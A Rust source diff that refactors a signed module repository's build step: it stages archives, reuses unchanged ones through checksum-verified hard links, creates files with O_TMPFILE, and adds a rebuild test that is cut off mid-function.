@@ -9,7 +9,6 @@
 use std::collections::BTreeSet;
 use std::path::{Path, PathBuf};
 use std::process::Command;
-use std::time::SystemTime;
 
 use super::archive;
 use super::index::{
@@ -18,6 +17,7 @@ use super::index::{
 };
 use super::metadata;
 use super::signing;
+use super::sources;
 use crate::config::is_valid_repository_name;
 
 /// What to build from where.
@@ -87,11 +87,13 @@ pub(super) fn io_error(path: &Path) -> impl Fn(std::io::Error) -> BuildError + '
     }
 }
 
-/// A module packed and described, before dependency kinds are known.
+/// A module packed, its archive in staging, described, before
+/// dependency kinds are known.
 struct Packed {
     entry: ModuleEntry,
     depends: Vec<metadata::Declared>,
-    archive: Vec<u8>,
+    /// What its archive was packed from, for the next build.
+    sources: sources::Packed,
 }
 
 /// Builds the repository. See the module documentation.
@@ -118,24 +120,57 @@ pub fn build(options: &BuildOptions) -> Result<BuildReport, BuildError> {
 
     let mut warnings = Vec::new();
     let history = History::detect(tree);
+    let record = sources::Record::published(options.out, &key).unwrap_or_else(|problem| {
+        warnings.push(problem);
+        sources::Record::default()
+    });
+    let staging = Staging::new(options.out)?;
     let mut packed = Vec::new();
-    let packs = on_every_core(&names, |name| pack_module(tree, name, &history));
+    // Reading, verifying and parsing the published index (a rebuild's
+    // 4 MB for 2,000 modules) beside the packing rather than before it:
+    // nothing packing does needs it.
+    let (before, packs) = std::thread::scope(|scope| {
+        let before = scope.spawn(|| published(options.out, &key));
+        let packs = on_every_core(&names, |name| {
+            let module = Module {
+                tree,
+                name,
+                history: &history,
+            };
+            module.pack(&record, &staging)
+        });
+        let before = (before.join()).unwrap_or_else(|panic| std::panic::resume_unwind(panic));
+        (before, packs)
+    });
     for (name, result) in names.iter().zip(packs) {
         match result {
-            Ok((module, warning)) => {
-                warnings.extend(warning.map(|w| format!("mod_{name}: {w}")));
+            Ok((module, module_warnings)) => {
+                warnings.extend(
+                    module_warnings
+                        .into_iter()
+                        .map(|w| format!("mod_{name}: {w}")),
+                );
                 packed.push(module);
             }
-            Err(problem) => warnings.push(format!("mod_{name}: {problem}; skipped")),
+            Err(Unpacked::Skipped(problem)) => {
+                warnings.push(format!("mod_{name}: {problem}; skipped"))
+            }
+            Err(Unpacked::Stopped(error)) => return Err(error),
         }
     }
     if packed.is_empty() {
         return Err(BuildError::Empty(tree.to_owned()));
     }
 
-    let before = published(options.out, &key);
-    for module in &mut packed {
+    let kept = on_every_core(&packed, |module| {
+        let old = before
+            .as_ref()
+            .and_then(|index| index.get(&module.entry.name));
+        staging.keep_earlier(old, &module.entry, options.keep)
+    });
+    for (module, kept) in packed.iter_mut().zip(kept) {
         let entry = &mut module.entry;
+        entry.previous = kept?;
         let previous = before.as_ref().and_then(|index| index.get(&entry.name));
         entry.changes = history.changes(tree, &entry.name, &entry.version, previous);
     }
@@ -159,15 +194,10 @@ pub fn build(options: &BuildOptions) -> Result<BuildReport, BuildError> {
     }
 
     let modules = packed.len();
-    publish(
-        options.out,
-        options.name,
-        &key,
-        options.valid_for,
-        packed.into_iter().map(|p| (p.entry, p.archive)).collect(),
-        Keep::Published(options.keep),
-        before,
-    )?;
+    let (entries, packed): (Vec<ModuleEntry>, Vec<sources::Packed>) =
+        packed.into_iter().map(|p| (p.entry, p.sources)).unzip();
+    sources::Record::write(staging.path(), &key, packed)?;
+    staging.publish(options.name, &key, options.valid_for, entries, before)?;
     Ok(BuildReport { modules, warnings })
 }
 
@@ -196,57 +226,23 @@ fn check_name(name: &str) -> Result<(), BuildError> {
     }
 }
 
-/// Where the earlier builds a published index lists come from.
-pub(crate) enum Keep {
-    /// Those the index already at `out` listed (and its newest builds),
-    /// at most this many per module, their archives copied over: `repo
-    /// build --keep`.
-    Published(usize),
-    /// Those each entry comes with (a mirror's, read from its server),
-    /// with their archives' bytes by path under `archives/`.
-    Given(Vec<(String, Vec<u8>)>),
-}
-
 /// Writes a signed repository `name` of `modules` (sorted by name, each
-/// entry with its archive's bytes) at `out`, with a serial above the last
-/// one and an expiry `valid_for` from now: built beside it, then renamed
-/// into place (see [`replace_dir`]). An index clients would refuse (over
-/// [`limits`]) is not written. `before` is what [`published`] found at
-/// `out`: the caller has read it already, and reading, verifying and
-/// parsing a 2,000-module index again cost a rebuild some 5% of its time.
+/// entry with its archive's bytes) at `out`, serving beside them the
+/// earlier builds' `archives` (by path under `archives/`) the entries
+/// list: what `repo mirror` read from its server. See
+/// [`Staging::publish`]; `before` is what [`published`] found at `out`.
 pub(crate) fn publish(
     out: &Path,
     name: &str,
     key: &ed25519_dalek::SigningKey,
     valid_for: time::Duration,
     modules: Vec<(ModuleEntry, Vec<u8>)>,
-    keep: Keep,
+    archives: Vec<(String, Vec<u8>)>,
     before: Option<Index>,
 ) -> Result<(), BuildError> {
     check_name(name)?;
-    if modules.len() > limits::MODULES {
-        return Err(BuildError::TooManyModules {
-            found: modules.len(),
-        });
-    }
-    if let Some((entry, problem)) = modules
-        .iter()
-        .find_map(|(entry, _)| entry.check_bounds().err().map(|p| (entry, p)))
-    {
-        return Err(BuildError::Bounds {
-            module: entry.name.clone(),
-            problem,
-        });
-    }
-    let staging = staging_dir(out)?;
-    let archives = staging.path().join("archives");
-    std::fs::create_dir(&archives).map_err(io_error(&archives))?;
-    let mut entries = Vec::with_capacity(modules.len());
-    let (count, given) = match keep {
-        Keep::Published(count) => (Some(count), vec![]),
-        Keep::Given(archives) => (None, archives),
-    };
-    for (path, archive) in given {
+    let staging = Staging::new(out)?;
+    for (path, archive) in archives {
         // Only archives this command names: one file under archives/.
         let plain = path
             .strip_prefix("archives/")
@@ -257,145 +253,270 @@ pub(crate) fn publish(
                 problem: "an earlier build's archive must be one file under archives/".into(),
             });
         }
-        place(out, staging.path(), &path, &archive)?;
+        staging.place(&path, &archive)?;
     }
-    // Each module's files apart from the others': on every core, as
-    // packing was.
+    // Each module's archive apart from the others': on every core.
     let placed = on_every_core(&modules, |(entry, archive)| {
-        let kept = count
-            .map(|count| keep_earlier(out, before.as_ref(), entry, count, staging.path()))
-            .transpose()?;
-        place(out, staging.path(), &entry.archive, archive)?;
-        Ok::<_, BuildError>(kept)
+        staging.place(&entry.archive, archive)
     });
-    for ((mut entry, _), kept) in modules.into_iter().zip(placed) {
-        if let Some(kept) = kept? {
-            entry.previous = kept;
+    placed.into_iter().collect::<Result<(), _>>()?;
+    let entries = modules.into_iter().map(|(entry, _)| entry).collect();
+    staging.publish(name, key, valid_for, entries, before)
+}
+
+/// A repository being built: a temp dir beside the one published at
+/// `out` (on the same file system, so that it goes into place with a
+/// rename), which archives are placed in as they are packed.
+pub(crate) struct Staging {
+    dir: tempfile::TempDir,
+    out: PathBuf,
+}
+
+impl Staging {
+    pub(crate) fn new(out: &Path) -> Result<Staging, BuildError> {
+        let dir = staging_dir(out)?;
+        let archives = dir.path().join("archives");
+        std::fs::create_dir(&archives).map_err(io_error(&archives))?;
+        Ok(Staging {
+            dir,
+            out: out.to_owned(),
+        })
+    }
+
+    pub(crate) fn path(&self) -> &Path {
+        self.dir.path()
+    }
+
+    /// Puts the archive `bytes` at `relative` (a plain path under
+    /// `archives/`). Where the repository published at `out` already
+    /// serves those very bytes at that path (an earlier build kept, or
+    /// a build by a modman that kept no record of sources), the file is
+    /// linked rather than written: a rebuild then allocates no file for
+    /// what did not change, and on a busy file system creating 2,000
+    /// files cost several times what packing them did. What is linked is
+    /// read back through the link and compared, so the index never lists
+    /// bytes it did not pack (an archive tampered with since is written
+    /// anew).
+    pub(crate) fn place(&self, relative: &str, bytes: &[u8]) -> Result<(), BuildError> {
+        let target = self.path().join(relative);
+        if std::fs::hard_link(self.out.join(relative), &target).is_ok() {
+            if read_published(&target, bytes.len() as u64).is_ok_and(|held| held == bytes) {
+                return Ok(());
+            }
+            std::fs::remove_file(&target).map_err(io_error(&target))?;
         }
-        entries.push(entry);
+        create_file(&target, bytes).map_err(io_error(&target))
     }
-    let (generated, clock) = build_time()?;
-    let index = Index {
-        schema: SCHEMA,
-        repository: name.to_owned(),
-        serial: match &before {
-            Some(index) => index.serial.saturating_add(1).max(micros(clock)),
-            None => next_serial(out, clock),
-        },
-        generated,
-        expires: Timestamp(generated.0 + valid_for),
-        modules: entries,
-        // Kept from build to build: they concern versions installed out
-        // there, whatever the tree holds now.
-        advisories: before.map_or_else(Vec::new, |index| index.advisories),
+
+    /// Links the archive published at `from` to `to` if it is `size`
+    /// bytes with SHA-256 `sha256`, read through the new link (the file
+    /// that will be served); `false`, and nothing linked, if it is gone,
+    /// is not a plain file or holds other bytes.
+    fn adopt(&self, from: &str, to: &str, sha256: &str, size: u64) -> Result<bool, BuildError> {
+        let target = self.path().join(to);
+        if std::fs::hard_link(self.out.join(from), &target).is_err() {
+            return Ok(false);
+        }
+        let held = read_published(&target, size);
+        if held.is_ok_and(|bytes| bytes.len() as u64 == size && super::sha256_hex(&bytes) == sha256)
+        {
+            return Ok(true);
+        }
+        std::fs::remove_file(&target).map_err(io_error(&target))?;
+        Ok(false)
     }
-    .to_json();
-    let index_path = staging.path().join("index.json");
-    std::fs::write(&index_path, &index).map_err(io_error(&index_path))?;
-    let signature_path = staging.path().join("index.json.sig");
-    std::fs::write(&signature_path, signing::sign(key, &index))
-        .map_err(io_error(&signature_path))?;
-    replace_dir(staging, out)
+
+    /// The earlier builds of `entry` to list, newest first, at most
+    /// `keep`: the build `old` was (the module's entry in the index
+    /// published at `out`), if it differs, then those it listed. Each
+    /// archive is placed from `out`; one that is gone or no longer
+    /// matches its SHA-256 is no longer offered.
+    fn keep_earlier(
+        &self,
+        old: Option<&ModuleEntry>,
+        entry: &ModuleEntry,
+        keep: usize,
+    ) -> Result<Vec<Earlier>, BuildError> {
+        let Some(old) = old else {
+            return Ok(vec![]);
+        };
+        let mut kept: Vec<Earlier> = Vec::new();
+        for earlier in std::iter::once(old.as_earlier()).chain(old.previous.iter().cloned()) {
+            if kept.len() >= keep {
+                break;
+            }
+            // Only archives this command names: one file under archives/.
+            let plain = earlier
+                .archive
+                .strip_prefix("archives/")
+                .is_some_and(is_plain_file_name);
+            let clash = earlier.version == entry.version
+                || earlier.archive == entry.archive
+                || kept
+                    .iter()
+                    .any(|k| k.version == earlier.version || k.archive == earlier.archive);
+            if !plain || clash {
+                continue;
+            }
+            let (path, sha256) = (&earlier.archive, &earlier.sha256);
+            if self.adopt(path, path, sha256, earlier.size)? {
+                kept.push(earlier);
+            }
+        }
+        Ok(kept)
+    }
+
+    /// Signs and publishes `modules` (sorted by name, their archives
+    /// placed) as repository `name`, with a serial above the last one
+    /// and an expiry `valid_for` from now: the staged directory is
+    /// renamed into place (see [`replace_dir`]). An index clients would
+    /// refuse (over [`limits`]) is not published. `before` is what
+    /// [`published`] found at `out`: the caller has read it already,
+    /// and reading, verifying and parsing a 2,000-module index again
+    /// cost a rebuild some 5% of its time.
+    pub(crate) fn publish(
+        self,
+        name: &str,
+        key: &ed25519_dalek::SigningKey,
+        valid_for: time::Duration,
+        modules: Vec<ModuleEntry>,
+        before: Option<Index>,
+    ) -> Result<(), BuildError> {
+        check_name(name)?;
+        if modules.len() > limits::MODULES {
+            return Err(BuildError::TooManyModules {
+                found: modules.len(),
+            });
+        }
+        if let Some((entry, problem)) = modules
+            .iter()
+            .find_map(|entry| entry.check_bounds().err().map(|p| (entry, p)))
+        {
+            return Err(BuildError::Bounds {
+                module: entry.name.clone(),
+                problem,
+            });
+        }
+        let (generated, clock) = build_time()?;
+        let index = Index {
+            schema: SCHEMA,
+            repository: name.to_owned(),
+            serial: match &before {
+                Some(index) => index.serial.saturating_add(1).max(micros(clock)),
+                None => next_serial(&self.out, clock),
+            },
+            generated,
+            expires: Timestamp(generated.0 + valid_for),
+            modules,
+            // Kept from build to build: they concern versions installed out
+            // there, whatever the tree holds now.
+            advisories: before.map_or_else(Vec::new, |index| index.advisories),
+        }
+        .to_json();
+        let index_path = self.path().join("index.json");
+        std::fs::write(&index_path, &index).map_err(io_error(&index_path))?;
+        let signature_path = self.path().join("index.json.sig");
+        std::fs::write(&signature_path, signing::sign(key, &index))
+            .map_err(io_error(&signature_path))?;
+        replace_dir(self.dir, &self.out)
+    }
 }
 
 /// The index already published at `out`, when this key signed it:
 /// where the earlier builds to keep are listed.
 pub(crate) fn published(out: &Path, key: &ed25519_dalek::SigningKey) -> Option<Index> {
-    let index = std::fs::read(out.join("index.json")).ok()?;
-    let signature = std::fs::read(out.join("index.json.sig")).ok()?;
+    let index = read_published(&out.join("index.json"), super::fetch::MAX_INDEX).ok()?;
+    let signature = read_published(&out.join("index.json.sig"), 1024).ok()?;
     signing::verify(&key.verifying_key(), &index, &signature).ok()?;
     Index::parse(&index).ok()
 }
 
-/// The earlier builds of `entry` to list, newest first, at most `keep`:
-/// the build `before` had, if it differs, then those it listed. Each
-/// archive is copied from `out` into `staging`; one that is gone or no
-/// longer matches its SHA-256 is no longer offered.
-fn keep_earlier(
-    out: &Path,
-    before: Option<&Index>,
-    entry: &ModuleEntry,
-    keep: usize,
-    staging: &Path,
-) -> Result<Vec<Earlier>, BuildError> {
-    let Some(old) = before.and_then(|index| index.get(&entry.name)) else {
-        return Ok(vec![]);
+/// Writes `bytes` as the new file `path`, made nameless in its directory
+/// (`O_TMPFILE`) and given its name once written. Creating a file by
+/// name holds the directory's lock while the file system finds it an
+/// inode, and ext4 without a journal, in a block group where files were
+/// deleted in the last minutes, passes over each of those inodes one by
+/// one: on a machine shared by test runs that delete thousands of
+/// files, a first build of 2,000 modules took up to 1.5 s to create its
+/// archives, the second worker spinning on the lock meanwhile. Made
+/// apart, the inodes are found in parallel and only the names are added
+/// under the lock: a test program creating 2,000 files from two threads
+/// in that state took 0.4-0.7 s instead of 0.7-1.5 s. Where the file
+/// system or `/proc` offers no such file, an ordinary create.
+fn create_file(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
+    use std::io::Write;
+    use std::os::unix::ffi::OsStrExt;
+    use std::os::unix::fs::OpenOptionsExt;
+    use std::os::unix::io::AsRawFd;
+    let dir = path.parent().unwrap_or(Path::new("."));
+    let nameless = std::fs::OpenOptions::new()
+        .write(true)
+        .custom_flags(libc::O_TMPFILE)
+        .open(dir);
+    let Ok(mut file) = nameless else {
+        return std::fs::write(path, bytes);
     };
-    let mut kept: Vec<Earlier> = Vec::new();
-    for earlier in std::iter::once(old.as_earlier()).chain(old.previous.iter().cloned()) {
-        if kept.len() >= keep {
-            break;
-        }
-        // Only archives this command names: one file under archives/.
-        let plain = earlier
-            .archive
-            .strip_prefix("archives/")
-            .is_some_and(is_plain_file_name);
-        let clash = earlier.version == entry.version
-            || earlier.archive == entry.archive
-            || kept
-                .iter()
-                .any(|k| k.version == earlier.version || k.archive == earlier.archive);
-        if !plain || clash {
-            continue;
-        }
-        let Ok(bytes) = std::fs::read(out.join(&earlier.archive)) else {
-            continue;
-        };
-        if bytes.len() as u64 != earlier.size || super::sha256_hex(&bytes) != earlier.sha256 {
-            continue;
-        }
-        place(out, staging, &earlier.archive, &bytes)?;
-        kept.push(earlier);
+    file.write_all(bytes)?;
+    let (Ok(from), Ok(to)) = (
+        std::ffi::CString::new(format!("/proc/self/fd/{}", file.as_raw_fd())),
+        std::ffi::CString::new(path.as_os_str().as_bytes()),
+    ) else {
+        return std::fs::write(path, bytes);
+    };
+    // SAFETY: both are valid NUL-terminated paths that outlive the call,
+    // and `file`, which `from` names, is open until after it.
+    let linked = unsafe {
+        libc::linkat(
+            libc::AT_FDCWD,
+            from.as_ptr(),
+            libc::AT_FDCWD,
+            to.as_ptr(),
+            libc::AT_SYMLINK_FOLLOW,
+        )
+    };
+    match linked {
+        0 => Ok(()),
+        _ => match std::io::Error::last_os_error() {
+            // No /proc to name the file by: an ordinary create.
+            e if e.kind() == std::io::ErrorKind::NotFound => std::fs::write(path, bytes),
+            e => Err(e),
+        },
     }
-    Ok(kept)
 }
 
-/// Puts the archive `bytes` at `relative` (a plain path under
-/// `archives/`) in `staging`. Where the repository published at `out`
-/// already serves those very bytes at that path (a module unchanged
-/// since the last build, an earlier build kept), the file is linked
-/// rather than written: a rebuild then allocates no file for what did
-/// not change, and on a busy file system creating 2,000 files cost
-/// several times what packing them did. What is linked is read back
-/// through the link and compared, so the index never lists bytes it did
-/// not pack (an archive tampered with since is written anew); opened
-/// without following links, as `hard_link` links a symbolic link itself,
-/// and its length taken from that open file, one look-up in all (and
-/// without blocking, should it be a FIFO).
-fn place(out: &Path, staging: &Path, relative: &str, bytes: &[u8]) -> Result<(), BuildError> {
-    let target = staging.join(relative);
-    if std::fs::hard_link(out.join(relative), &target).is_ok() {
-        if holds(&target, bytes) {
-            return Ok(());
-        }
-        std::fs::remove_file(&target).map_err(io_error(&target))?;
-    }
-    std::fs::write(&target, bytes).map_err(io_error(&target))
-}
-
-/// Whether `path` is a regular file (not a link to one) of exactly
-/// `bytes`.
-fn holds(path: &Path, bytes: &[u8]) -> bool {
+/// The regular file at `path` in a published repository (which whoever
+/// serves it may have changed), if it is at most `limit` bytes: opened
+/// without following a link (as `hard_link` links a symbolic link
+/// itself) or blocking (should it be a FIFO), its length taken from
+/// that open file, one look-up in all.
+pub(crate) fn read_published(path: &Path, limit: u64) -> std::io::Result<Vec<u8>> {
     use std::io::Read;
     use std::os::unix::fs::OpenOptionsExt;
-    let Ok(mut file) = std::fs::OpenOptions::new()
+    let file = std::fs::OpenOptions::new()
         .read(true)
         .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
-        .open(path)
-    else {
-        return false;
-    };
-    let same_size = file
-        .metadata()
-        .is_ok_and(|m| m.is_file() && m.len() == bytes.len() as u64);
-    let mut held = vec![0; bytes.len()];
-    same_size && file.read_exact(&mut held).is_ok() && held == bytes
+        .open(path)?;
+    let metadata = file.metadata()?;
+    if !metadata.is_file() || metadata.len() > limit {
+        return Err(std::io::Error::new(
+            std::io::ErrorKind::InvalidData,
+            format!("not a regular file of at most {limit} bytes"),
+        ));
+    }
+    let mut bytes = Vec::with_capacity(metadata.len() as usize);
+    file.take(limit + 1).read_to_end(&mut bytes)?;
+    if bytes.len() as u64 > limit {
+        return Err(std::io::Error::new(
+            std::io::ErrorKind::InvalidData,
+            format!("grew past {limit} bytes while read"),
+        ));
+    }
+    Ok(bytes)
 }
 
 /// A file name without directories, escapes or anything a URL or a
 /// path would read differently.
-fn is_plain_file_name(name: &str) -> bool {
+pub(crate) fn is_plain_file_name(name: &str) -> bool {
     !name.is_empty()
         && !name.starts_with('.')
         && name
@@ -445,26 +566,139 @@ fn micros(clock: time::OffsetDateTime) -> u64 {
     u64::try_from(clock.unix_timestamp_nanos() / 1_000).unwrap_or(0)
 }
 
-/// Packs one module and describes it; `Err` says why it is skipped.
-fn pack_module(tree: &Path, name: &str, history: &History) -> PackResult {
-    if !is_valid_module_name(name) {
-        return Err("not a valid module name".into());
+/// One module of the tree being built.
+struct Module<'a> {
+    tree: &'a Path,
+    name: &'a str,
+    history: &'a History,
+}
+
+/// Why a module was not packed.
+enum Unpacked {
+    /// It is left out of the repository, for this reason.
+    Skipped(String),
+    /// The whole build stops.
+    Stopped(BuildError),
+}
+
+impl From<String> for Unpacked {
+    fn from(problem: String) -> Unpacked {
+        Unpacked::Skipped(problem)
     }
-    let dir = tree.join(format!("mod_{name}"));
-    // Only the layouts that live inside the module's own directory; the
-    // flat one first, as nearly every module has it: one look-up each.
-    let [nested, flat, ..] = crate::repo::placement::module_file_candidates(name);
-    if !tree.join(&flat).is_file() && !tree.join(&nested).is_file() {
-        return Err(format!("neither {flat} nor {nested} in it"));
+}
+
+impl From<BuildError> for Unpacked {
+    fn from(error: BuildError) -> Unpacked {
+        Unpacked::Stopped(error)
     }
-    let (bytes, files) = archive::pack(&dir, tree, name).map_err(|e| e.to_string())?;
-    // Read back what was packed: the archive checks itself, and the Lua
-    // files are scanned as shipped.
-    let contents = archive::read(&bytes, name).map_err(|e| e.to_string())?;
+}
+
+impl Module<'_> {
+    /// Packs the module into `staging` and describes it, with warnings.
+    /// The archive is the one the published repository serves when
+    /// `record` says it was packed from this very tar stream and the
+    /// file still holds what it says (see [`sources`]), else compressed
+    /// now.
+    fn pack(
+        &self,
+        record: &sources::Record,
+        staging: &Staging,
+    ) -> Result<(Packed, Vec<String>), Unpacked> {
+        let (tree, name) = (self.tree, self.name);
+        if !is_valid_module_name(name) {
+            return Err("not a valid module name".to_owned().into());
+        }
+        let dir = tree.join(format!("mod_{name}"));
+        let laid_out = archive::lay_out(&dir, tree, name).map_err(|e| e.to_string())?;
+        // Only the layouts that live inside the module's own directory.
+        let [nested, flat, ..] = crate::repo::placement::module_file_candidates(name);
+        let in_dir = |candidate: &str| candidate.split_once('/').map(|(_, file)| file.to_owned());
+        if !(laid_out.files.iter()).any(|file| {
+            Some(file) == in_dir(&flat).as_ref() || Some(file) == in_dir(&nested).as_ref()
+        }) {
+            return Err(format!("neither {flat} nor {nested} in it").into());
+        }
+        // Read back what is packed: the archive checks itself, and the
+        // Lua files are scanned as shipped.
+        let contents = archive::read_tar(&laid_out.tar, name).map_err(|e| e.to_string())?;
+        let (mut entry, depends, mut warnings) = describe(name, &contents, laid_out.files);
+        let sources = super::sha256_hex(&laid_out.tar);
+        let mut placed = false;
+        if let Some(published) = record.find(&sources) {
+            self.stamp(
+                &mut entry,
+                &published.sha256,
+                published.size,
+                laid_out.newest,
+            )?;
+            placed = staging.adopt(
+                &published.archive,
+                &entry.archive,
+                &published.sha256,
+                published.size,
+            )?;
+            if !placed {
+                warnings.push(format!(
+                    "{} is not the archive the signed record of sources lists (gone, changed or not a plain file); packed anew",
+                    published.archive
+                ));
+            }
+        }
+        if !placed {
+            let bytes = archive::compress(&laid_out.tar).map_err(io_error(&dir))?;
+            let sha256 = super::sha256_hex(&bytes);
+            self.stamp(&mut entry, &sha256, bytes.len() as u64, laid_out.newest)?;
+            staging.place(&entry.archive, &bytes)?;
+        }
+        let sources = sources::Packed {
+            sources,
+            archive: entry.archive.clone(),
+            sha256: entry.sha256.clone(),
+            size: entry.size,
+        };
+        let packed = Packed {
+            entry,
+            depends,
+            sources,
+        };
+        Ok((packed, warnings))
+    }
+
+    /// Gives `entry` its archive (`sha256`, `size`), the version that
+    /// archive makes (with `newest`, the time of its newest file) and its
+    /// path; `Err` if it can not be dated or is over the index's limits,
+    /// which clients would refuse.
+    fn stamp(
+        &self,
+        entry: &mut ModuleEntry,
+        sha256: &str,
+        size: u64,
+        newest: i64,
+    ) -> Result<(), String> {
+        let version = self
+            .history
+            .version(self.tree, self.name, newest, sha256)
+            .map_err(|e| format!("cannot date it: {e}"))?;
+        entry.archive = format!("archives/mod_{}-{version}.tar.gz", self.name);
+        entry.version = version;
+        entry.sha256 = sha256.to_owned();
+        entry.size = size;
+        entry.check_bounds()
+    }
+}
+
+/// What module `name`'s files (`contents`, `files` their paths) say of
+/// it: its entry, but for its archive and version; the modules it
+/// declares it depends on; and warnings about its README.
+fn describe(
+    name: &str,
+    contents: &[archive::ArchiveFile],
+    files: Vec<String>,
+) -> (ModuleEntry, Vec<metadata::Declared>, Vec<String>) {
     let mut depends: Vec<metadata::Declared> = contents
         .iter()
         .filter(|f| f.path.ends_with(".lua"))
-        .flat_map(|f| metadata::depends(&String::from_utf8_lossy(&f.data)))
+        .flat_map(|f| metadata::depends(&text(&f.data)))
         .filter(|d| d.name != name)
         .collect();
     // One entry per name; required in any file wins.
@@ -475,26 +709,23 @@ fn pack_module(tree: &Path, name: &str, history: &History) -> PackResult {
     let headers = contents
         .iter()
         .find(|f| f.path == format!("mod_{name}.lua") || f.path == format!("{name}/mod_{name}.lua"))
-        .map(|f| metadata::headers(&String::from_utf8_lossy(&f.data)))
+        .map(|f| metadata::headers(&text(&f.data)))
         .unwrap_or_default();
     let readme_file = contents
         .iter()
         .find(|f| matches!(f.path.as_str(), "README.markdown" | "README.md"));
     let (readme, warning) = match readme_file {
-        Some(file) => metadata::parse_readme(&String::from_utf8_lossy(&file.data)),
+        Some(file) => metadata::parse_readme(&text(&file.data)),
         None => (
             metadata::Readme::default(),
             Some("no README.markdown; summary and description left empty".into()),
         ),
     };
-    let sha256 = super::sha256_hex(&bytes);
-    let version = history
-        .version(tree, &dir, &files, &sha256)
-        .map_err(|e| format!("cannot date it: {e}"))?;
     let mut entry = ModuleEntry {
         name: name.to_owned(),
-        archive: format!("archives/mod_{name}-{version}.tar.gz"),
-        version,
+        // Given with the archive (`Module::stamp`).
+        archive: String::new(),
+        version: String::new(),
         summary: readme.summary,
         labels: readme.labels,
         stage: readme.stage,
@@ -502,22 +733,20 @@ fn pack_module(tree: &Path, name: &str, history: &History) -> PackResult {
         dependencies: vec![],
         compatibility: readme.compatibility,
         headers,
-        size: bytes.len() as u64,
-        sha256,
+        size: 0,
+        sha256: String::new(),
         files,
         // A tree in the prosody-modules layout holds modules only.
         library: None,
         // Read from the history once every module is packed.
         changes: vec![],
-        // The next step, publishing, lists the builds it keeps.
+        // Listed once the archive is placed.
         previous: vec![],
         listed: vec![],
     };
     // Copied as they are, an ESC or NUL from a README would break every
     // reply that carries it, or reach an admin's terminal.
     let cleaned = entry.clean_text();
-    // Clients refuse an index with a module over the limits: leave it out.
-    entry.check_bounds()?;
     let warning = match (cleaned, warning) {
         (false, warning) => warning,
         (true, warning) => Some(
@@ -528,18 +757,18 @@ fn pack_module(tree: &Path, name: &str, history: &History) -> PackResult {
                 .join("; "),
         ),
     };
-    Ok((
-        Packed {
-            entry,
-            depends,
-            archive: bytes,
-        },
-        warning,
-    ))
+    (entry, depends, warning.into_iter().collect())
 }
 
-/// A module packed, with a warning, or why it was left out.
-type PackResult = Result<(Packed, Option<String>), String>;
+/// A file's text, invalid UTF-8 replaced: checked by `from_utf8`, which
+/// strides over ASCII, before the slower lossy reading that only a file
+/// with invalid bytes needs.
+fn text(data: &[u8]) -> std::borrow::Cow<'_, str> {
+    match std::str::from_utf8(data) {
+        Ok(text) => std::borrow::Cow::Borrowed(text),
+        Err(_) => String::from_utf8_lossy(data),
+    }
+}
 
 /// `work` done on every item of `items`, on every core, the results
 /// in the items' order: packing a module and placing its archive are
@@ -598,14 +827,17 @@ impl History {
     /// `YYYYMMDD.<id>`: the date of the module's last change, then the
     /// commit that made it (checkouts) or the start of the archive's hash.
     /// Dates order versions for people; the id tells equal dates apart.
+    /// `newest` is the time of the module's newest file, `sha256` its
+    /// archive's.
     fn version(
         &self,
         tree: &Path,
-        dir: &Path,
-        files: &[String],
+        name: &str,
+        newest: i64,
         sha256: &str,
     ) -> Result<String, String> {
-        let module = dir.file_name().and_then(|n| n.to_str()).unwrap_or_default();
+        let module = format!("mod_{name}");
+        let module = module.as_str();
         let from_vcs = |program: &str, args: &[&str]| -> Result<Option<(i64, String)>, String> {
             let output = Command::new(program)
                 .args(args)
@@ -651,7 +883,7 @@ impl History {
             Some(found) => found,
             // Not in the history (new, untracked) or no checkout: the
             // newest file and the content hash.
-            None => (newest_mtime(dir, files)?, sha256[..8].to_owned()),
+            None => (newest, sha256[..8].to_owned()),
         };
         let date = time::OffsetDateTime::from_unix_timestamp(time)
             .map_err(|e| e.to_string())?
@@ -757,20 +989,6 @@ impl History {
         changes.truncate(limits::CHANGES);
         changes
     }
-}
-
-fn newest_mtime(dir: &Path, files: &[String]) -> Result<i64, String> {
-    let mut newest = 0;
-    for file in files {
-        let modified = std::fs::metadata(dir.join(file))
-            .and_then(|m| m.modified())
-            .map_err(|e| format!("{file}: {e}"))?;
-        let seconds = modified
-            .duration_since(SystemTime::UNIX_EPOCH)
-            .map_or(0, |d| d.as_secs() as i64);
-        newest = newest.max(seconds);
-    }
-    Ok(newest)
 }
 
 /// A temp dir beside `out`, on the same file system so the final rename
@@ -1055,6 +1273,165 @@ pub(crate) mod tests {
         assert_eq!(super::super::verify::verify(out, &public).problems, []);
     }
 
+    /// Every file a build published at `out` (its index apart), by path,
+    /// and its index without what differs from build to build.
+    fn published_files(out: &Path) -> (std::collections::BTreeMap<PathBuf, Vec<u8>>, Index) {
+        let mut files = std::collections::BTreeMap::new();
+        let mut dirs = vec![out.to_owned()];
+        while let Some(dir) = dirs.pop() {
+            for entry in std::fs::read_dir(&dir).unwrap() {
+                let path = entry.unwrap().path();
+                let relative = path.strip_prefix(out).unwrap().to_owned();
+                if path.is_dir() {
+                    dirs.push(path);
+                } else if !relative.starts_with("index.json")
+                    && relative != Path::new("index.json.sig")
+                {
+                    files.insert(relative, std::fs::read(&path).unwrap());
+                }
+            }
+        }
+        let mut index = Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
+        let epoch = Timestamp(time::OffsetDateTime::UNIX_EPOCH);
+        (index.serial, index.generated, index.expires) = (0, epoch, epoch);
+        (files, index)
+    }
+
+    #[test]
+    fn a_rebuild_reuses_what_did_not_change_and_equals_a_fresh_build() {
+        use std::os::unix::fs::MetadataExt;
+        let dir = tempfile::tempdir().unwrap();
+        let tree = dir.path().join("tree");
+        let write = |file: &str, text: &str| {
+            let path = tree.join(file);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(path, text).unwrap();
+        };
+        for name in ["a", "b", "c", "d"] {
+            write(
+                &format!("mod_{name}/mod_{name}.lua"),
+                "module:depends('c')\n",
+            );
+            write(
+                &format!("mod_{name}/README.markdown"),
+                "---\nsummary: S\n---\nText\n",
+            );
+        }
+        write("mod_b/lib/helper.lua", "return {}\n");
+        let built = TestBuild::new(dir.path());
+        // Earlier builds kept would be listed by the rebuild only.
+        let options = BuildOptions {
+            keep: 0,
+            ..built.options(&tree)
+        };
+        let index =
+            |out: &Path| Index::parse(&std::fs::read(out.join("index.json")).unwrap()).unwrap();
+        let inode = |out: &Path, entry: &ModuleEntry| {
+            std::fs::metadata(out.join(&entry.archive)).unwrap().ino()
+        };
+        build(&options).unwrap();
